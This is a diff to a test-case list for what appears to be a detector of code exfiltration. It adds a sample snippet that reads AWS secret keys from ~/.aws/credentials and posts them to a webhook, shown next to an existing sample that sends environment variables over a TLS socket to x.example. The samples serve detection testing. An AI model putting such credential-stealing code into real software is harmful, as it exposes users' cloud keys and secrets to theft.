@@ -251,6 +251,13 @@ CASES = [
               "    with ctx.wrap_socket(raw, server_hostname='x.example') as tls:\n"
               "        tls.send(str(dict(os.environ)).encode())\n"),
      "code.exfiltration", C, "the environment sent over a TLS-wrapped socket at install"),
+    ({"demo/q.py": "import configparser, os, requests\ndef push(hook):\n"
+                   "    config = configparser.RawConfigParser()\n"
+                   "    config.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))\n"
+                   "    found = []\n    for section in config.sections():\n"
+                   "        found.append(config.get(section, 'aws_secret_access_key'))\n"
+                   "    requests.post(hook, json=found)\n"},
+     "code.exfiltration", H, "cloud keys read into a parser object, collected in a list and posted"),
     # ---- benign look-alikes of the new sources and senders
     ({"demo/s.py": "import os\nclass Fetcher:\n    def __init__(self, env=None):\n"
                    "        env = os.environ.copy()\n        self.disabled = env.get('X_DISABLED')\n"
